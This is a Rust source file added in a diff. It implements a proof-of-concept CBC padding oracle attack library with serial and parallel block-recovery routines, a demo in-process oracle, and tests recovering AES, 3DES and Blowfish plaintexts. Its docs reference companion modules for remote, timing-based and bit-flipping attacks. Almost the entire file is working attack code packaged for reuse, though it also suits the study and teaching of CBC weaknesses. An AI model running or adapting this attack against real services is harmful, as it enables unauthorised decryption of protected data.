@@ -0,0 +1,443 @@
+//! Padding oracle attack PoC for CBC mode.
+//!
+//! The attack is generic over the block size (e.g. 8 bytes for 3DES/Blowfish,
+//! 16 bytes for AES) and the demo oracle can be constructed using any
+//! RustCrypto block cipher.
+//!
+//! Oracles leaking the padding validity through response time, rather than
+//! through an explicit error, are handled by the [`timing`] module.
+//!
+//! The [`bitflip`] module shows the companion CBC malleability attack, while
+//! the [`remote`] module allows to attack an oracle reachable over the network.
+//! Oracle sessions can be captured and replayed offline via [`transcript`].
+//!
+//! When something is known about the plaintext (e.g. it is JSON) the [`prior`]
+//! module cuts the number of oracle queries by trying the likely bytes first.
+
+pub mod bitflip;
+pub mod prior;
+pub mod remote;
+pub mod timing;
+pub mod transcript;
+
+use cbc::cipher::{
+    block_padding::Pkcs7, BlockCipher, BlockDecryptMut, BlockEncryptMut, KeyInit, KeyIvInit,
+};
+use rayon::prelude::*;
+use std::{
+    fmt,
+    marker::PhantomData,
+    sync::atomic::{AtomicBool, Ordering},
+    time::{Duration, Instant},
+};
+
+static VERBOSE: AtomicBool = AtomicBool::new(false);
+
+/// Enable per block progress tracing on stdout.
+pub fn set_verbose(verbose: bool) {
+    VERBOSE.store(verbose, Ordering::Relaxed);
+}
+
+fn verbose() -> bool {
+    VERBOSE.load(Ordering::Relaxed)
+}
+
+/// Padding oracle.
+///
+/// Should be a component aware of the key and such that leaks some sort of
+/// information when the padding is not correct.
+pub trait PaddingOracle {
+    /// Returns `false` when the decrypted `ct` padding is not correct.
+    fn check(&self, iv: &[u8], ct: &[u8]) -> bool;
+}
+
+impl<O: PaddingOracle + ?Sized> PaddingOracle for &O {
+    fn check(&self, iv: &[u8], ct: &[u8]) -> bool {
+        (**self).check(iv, ct)
+    }
+}
+
+/// In-process CBC padding oracle for the block cipher `C`.
+pub struct CbcOracle<C> {
+    key: Vec<u8>,
+    _cipher: PhantomData<C>,
+}
+
+impl<C> CbcOracle<C>
+where
+    C: BlockCipher + BlockDecryptMut + KeyInit,
+{
+    /// Construct a new oracle.
+    ///
+    /// Panics if the `key` length is not valid for the cipher.
+    pub fn new(key: &[u8]) -> Self {
+        assert!(C::new_from_slice(key).is_ok(), "Invalid key length");
+        CbcOracle {
+            key: key.to_vec(),
+            _cipher: PhantomData,
+        }
+    }
+}
+
+impl<C> PaddingOracle for CbcOracle<C>
+where
+    C: BlockCipher + BlockDecryptMut + KeyInit,
+{
+    // In this case we return false when padding is not correct.
+    fn check(&self, iv: &[u8], ct: &[u8]) -> bool {
+        let mut ct = ct.to_vec();
+        match cbc::Decryptor::<C>::new_from_slices(&self.key, iv) {
+            Ok(dec) => dec.decrypt_padded_mut::<Pkcs7>(&mut ct).is_ok(),
+            Err(_) => false,
+        }
+    }
+}
+
+/// Encrypt `plaintext` using block cipher `C` in CBC mode with PKCS#7 padding.
+///
+/// Handy to produce ciphertexts for the demo oracle.
+pub fn encrypt<C>(key: &[u8], iv: &[u8], plaintext: &[u8]) -> Vec<u8>
+where
+    C: BlockCipher + BlockEncryptMut + KeyInit,
+{
+    cbc::Encryptor::<C>::new_from_slices(key, iv)
+        .expect("Invalid key or iv length")
+        .encrypt_padded_vec_mut::<Pkcs7>(plaintext)
+}
+
+/// Single block decryption statistics.
+#[derive(Debug, Clone, Default)]
+pub struct BlockStats {
+    /// Number of oracle queries.
+    pub queries: usize,
+    /// Number of false positives (i.e. valid paddings different from `[.. 01]`).
+    pub retries: usize,
+    /// Time spent to decrypt the block.
+    pub elapsed: Duration,
+}
+
+/// Attack statistics.
+#[derive(Debug, Clone, Default)]
+pub struct AttackStats {
+    /// Per block statistics.
+    pub blocks: Vec<BlockStats>,
+    /// Attack wall clock time.
+    pub elapsed: Duration,
+}
+
+impl AttackStats {
+    /// Total number of oracle queries.
+    pub fn total_queries(&self) -> usize {
+        self.blocks.iter().map(|b| b.queries).sum()
+    }
+
+    /// Total number of false positives.
+    pub fn total_retries(&self) -> usize {
+        self.blocks.iter().map(|b| b.retries).sum()
+    }
+
+    /// Theoretical average number of queries to decrypt `len` bytes.
+    ///
+    /// Each byte requires on average 128 guesses out of 256.
+    pub fn expected_queries(len: usize) -> usize {
+        128 * len
+    }
+}
+
+impl fmt::Display for AttackStats {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        for (i, b) in self.blocks.iter().enumerate() {
+            writeln!(
+                f,
+                "Block #{i}: queries={}, retries={}, elapsed={:?}",
+                b.queries, b.retries, b.elapsed
+            )?;
+        }
+        write!(
+            f,
+            "Total: queries={}, retries={}, elapsed={:?}",
+            self.total_queries(),
+            self.total_retries(),
+            self.elapsed
+        )
+    }
+}
+
+// Plaintext byte guesses, most likely first, given the already recovered block tail.
+type GuessOrder<'a> = &'a mut dyn FnMut(&[u8]) -> Vec<u8>;
+
+// Decrypt the `curr` ciphertext block given the previous ciphertext block (or iv).
+//
+// Guesses are tried in `order` if given, otherwise all the `prev` byte values
+// are tried sequentially.
+//
+// Returns the plaintext block.
+fn attack_block<O: PaddingOracle + ?Sized>(
+    oracle: &O,
+    index: usize,
+    prev: &[u8],
+    curr: &[u8],
+    mut order: Option<GuessOrder>,
+) -> (Vec<u8>, BlockStats) {
+    let start = Instant::now();
+    let block_size = curr.len();
+    let mut stats = BlockStats::default();
+    let mut check = |prev: &[u8]| {
+        stats.queries += 1;
+        oracle.check(prev, curr)
+    };
+
+    let mut prev = prev.to_vec();
+    let mut dcurr = vec![0; block_size];
+    let mut curr_plain = vec![0; block_size];
+    let mut retries = 0;
+
+    if verbose() {
+        println!(
+            "Block #{index}\n curr: {}\n prev: {}",
+            hex::encode(curr),
+            hex::encode(&prev)
+        );
+    }
+
+    for pad in 1..=block_size {
+        let prev_val = prev[block_size - pad];
+        let guesses: Vec<u8> = match order.as_mut() {
+            // pad = prev' ^ decrypt(curr) = prev' ^ prev ^ plain
+            Some(order) => order(&curr_plain[block_size - pad + 1..])
+                .into_iter()
+                .map(|plain| prev_val ^ plain ^ pad as u8)
+                .collect(),
+            None => (0..=255).collect(),
+        };
+        for i in guesses {
+            // prev' is computed
+            prev[block_size - pad] = i;
+            if check(&prev) {
+                // The decryption is successful if we accidentally obtained a correctly padded block.
+                // Valid pkcs #7 paddings are: [ ... 01 ], [ ... 02 02 ], [ ... 03 03 03 ], ...
+                // For pad=1 we want to double check that the block effectivelly decrypts to [... 01]
+                // and not to one of the other forms.
+                // For pad>1 this check is not necessary since the tail bytes are setted by us,
+                // thus there is no space for ambiguity.
+                if pad == 1 {
+                    // Invert the first bit of the byte before and repeat the check.
+                    // If we are in the case [... 01] then should be successful again.
+                    let mut tmp = prev.clone();
+                    tmp[block_size - (pad + 1)] ^= 1;
+                    if !check(&tmp) {
+                        if verbose() {
+                            println!("~ Ignoring decryption for block: {}", hex::encode(&prev));
+                        }
+                        retries += 1;
+                        continue;
+                    }
+                }
+                break;
+            }
+        }
+
+        // pad = prev' ^ decrypt(curr) => decrypt(curr) = prev' ^ pad
+        let dc = prev[block_size - pad] ^ pad as u8;
+        dcurr[block_size - pad] = dc;
+
+        // plain = prev ^ decrypt(curr)
+        let pc = prev_val ^ dc;
+        curr_plain[block_size - pad] = pc;
+
+        // update the prev block tail to be decryted to the next pad values.
+        // For example. If we want the i-th value of curr to decrypt to 0x03 then
+        // we set: prev[i] = dcurr[i] ^ 0x03
+        for i in 1..=pad {
+            prev[block_size - i] = dcurr[block_size - i] ^ (pad + 1) as u8;
+        }
+    }
+
+    stats.retries = retries;
+    stats.elapsed = start.elapsed();
+    (curr_plain, stats)
+}
+
+fn check_lengths(block_size: usize, iv: &[u8], ciphertext: &[u8]) {
+    assert!(block_size >= 2, "Block size must be at least 2 bytes");
+    assert_eq!(iv.len(), block_size, "IV length must match block size");
+    assert_eq!(ciphertext.len() % block_size, 0, "Bad ciphertext length");
+}
+
+// Finally strip the real padding. Plaintexts which are not PKCS#7 padded
+// (empty, or recovered through an unreliable oracle) are left untouched.
+fn strip_padding(mut plaintext: Vec<u8>, block_size: usize) -> Vec<u8> {
+    let pad = plaintext.last().map_or(0, |&b| b as usize);
+    let valid = (1..=block_size.min(plaintext.len())).contains(&pad)
+        && plaintext[plaintext.len() - pad..]
+            .iter()
+            .all(|&b| b as usize == pad);
+    if valid {
+        plaintext.truncate(plaintext.len() - pad);
+    }
+    plaintext
+}
+
+/// Padding oracle attack.
+///
+/// The attacker knows the initialization vector and the ciphertext.
+///
+/// Will query the oracle which leaks padding errors information allowing
+/// incremental decryption of the message. If the recovered plaintext is not
+/// PKCS#7 padded it is returned as is.
+///
+/// Params:
+/// * `oracle`: padding oracle.
+/// * `block_size`: cipher block size in bytes (at least 2, must match `iv`
+///   length).
+/// * `iv`: initialization vector.
+/// * `ciphertext`: ciphertext (length must be a multiple of `block_size`).
+pub fn attack<O: PaddingOracle>(
+    oracle: &O,
+    block_size: usize,
+    iv: &[u8],
+    ciphertext: &[u8],
+) -> Vec<u8> {
+    attack_with_stats(oracle, block_size, iv, ciphertext).0
+}
+
+/// Padding oracle attack returning the attack statistics.
+///
+/// Blocks are processed sequentially. Parameters are the same as `attack`.
+pub fn attack_with_stats<O: PaddingOracle>(
+    oracle: &O,
+    block_size: usize,
+    iv: &[u8],
+    ciphertext: &[u8],
+) -> (Vec<u8>, AttackStats) {
+    check_lengths(block_size, iv, ciphertext);
+    let start = Instant::now();
+
+    let mut plaintext = Vec::with_capacity(ciphertext.len());
+    let mut stats = AttackStats::default();
+    let mut prev = iv;
+
+    for (i, curr) in ciphertext.chunks(block_size).enumerate() {
+        let (curr_plain, block_stats) = attack_block(oracle, i, prev, curr, None);
+        plaintext.extend_from_slice(&curr_plain);
+        stats.blocks.push(block_stats);
+        prev = curr;
+    }
+
+    stats.elapsed = start.elapsed();
+    (strip_padding(plaintext, block_size), stats)
+}
+
+/// Parallel padding oracle attack.
+///
+/// Each ciphertext block only depends on the previous ciphertext block (or iv),
+/// thus all the blocks are attacked concurrently. This is mostly convenient when
+/// the oracle latency dominates (e.g. remote oracles).
+///
+/// Parameters are the same as `attack`.
+pub fn attack_parallel<O: PaddingOracle + Sync>(
+    oracle: &O,
+    block_size: usize,
+    iv: &[u8],
+    ciphertext: &[u8],
+) -> (Vec<u8>, AttackStats) {
+    check_lengths(block_size, iv, ciphertext);
+    let start = Instant::now();
+
+    let prevs = std::iter::once(iv).chain(ciphertext.chunks(block_size));
+    let pairs: Vec<_> = prevs.zip(ciphertext.chunks(block_size)).collect();
+
+    let results: Vec<_> = pairs
+        .into_par_iter()
+        .enumerate()
+        .map(|(i, (prev, curr))| attack_block(oracle, i, prev, curr, None))
+        .collect();
+
+    let mut plaintext = Vec::with_capacity(ciphertext.len());
+    let mut stats = AttackStats::default();
+    for (curr_plain, block_stats) in results {
+        plaintext.extend_from_slice(&curr_plain);
+        stats.blocks.push(block_stats);
+    }
+
+    stats.elapsed = start.elapsed();
+    (strip_padding(plaintext, block_size), stats)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use aes::{Aes128, Aes256};
+    use blowfish::Blowfish;
+    use des::TdesEde3;
+
+    const PLAINTEXT: &[u8] = b"hello world! this is my plaintext!!!";
+
+    fn attack_works<C>(key_size: usize)
+    where
+        C: BlockCipher + BlockEncryptMut + BlockDecryptMut + KeyInit,
+    {
+        let block_size = C::block_size();
+        let key = vec![0x42; key_size];
+        let iv = vec![0x24; block_size];
+        let ciphertext = encrypt::<C>(&key, &iv, PLAINTEXT);
+
+        let oracle = CbcOracle::<C>::new(&key);
+        let recovered = attack(&oracle, block_size, &iv, &ciphertext);
+
+        assert_eq!(recovered, PLAINTEXT);
+    }
+
+    #[test]
+    fn attack_aes128() {
+        attack_works::<Aes128>(16);
+    }
+
+    #[test]
+    fn attack_aes256() {
+        attack_works::<Aes256>(32);
+    }
+
+    #[test]
+    fn attack_tdes() {
+        attack_works::<TdesEde3>(24);
+    }
+
+    #[test]
+    fn attack_blowfish() {
+        attack_works::<Blowfish>(16);
+    }
+
+    #[test]
+    fn parallel_attack_works() {
+        let key = [0x42; 16];
+        let iv = [0x24; 16];
+        let ciphertext = encrypt::<Aes128>(&key, &iv, PLAINTEXT);
+        let oracle = CbcOracle::<Aes128>::new(&key);
+
+        let (recovered, stats) = attack_parallel(&oracle, 16, &iv, &ciphertext);
+        assert_eq!(recovered, PLAINTEXT);
+        assert_eq!(stats.blocks.len(), ciphertext.len() / 16);
+
+        let (_, serial_stats) = attack_with_stats(&oracle, 16, &iv, &ciphertext);
+        assert_eq!(stats.total_queries(), serial_stats.total_queries());
+        // Can't exceed 256 queries per byte plus one double check per block
+        assert!(stats.total_queries() <= 257 * ciphertext.len());
+    }
+
+    #[test]
+    fn invalid_padding_is_kept() {
+        assert_eq!(strip_padding(vec![], 16), b"");
+        assert_eq!(strip_padding(b"abc\x03\x03\x03".to_vec(), 16), b"abc");
+        // Longer than the block or the plaintext
+        assert_eq!(strip_padding(vec![0x11; 17], 16), vec![0x11; 17]);
+        assert_eq!(strip_padding(b"a\x03".to_vec(), 16), b"a\x03");
+        // Zero or inconsistent padding bytes
+        assert_eq!(strip_padding(b"abc\x00".to_vec(), 16), b"abc\x00");
+        assert_eq!(strip_padding(b"ab\x01\x02".to_vec(), 16), b"ab\x01\x02");
+
+        // Empty ciphertexts don't panic
+        let oracle = CbcOracle::<Aes128>::new(&[0x42; 16]);
+        assert_eq!(attack(&oracle, 16, &[0x24; 16], &[]), b"");
+    }
+}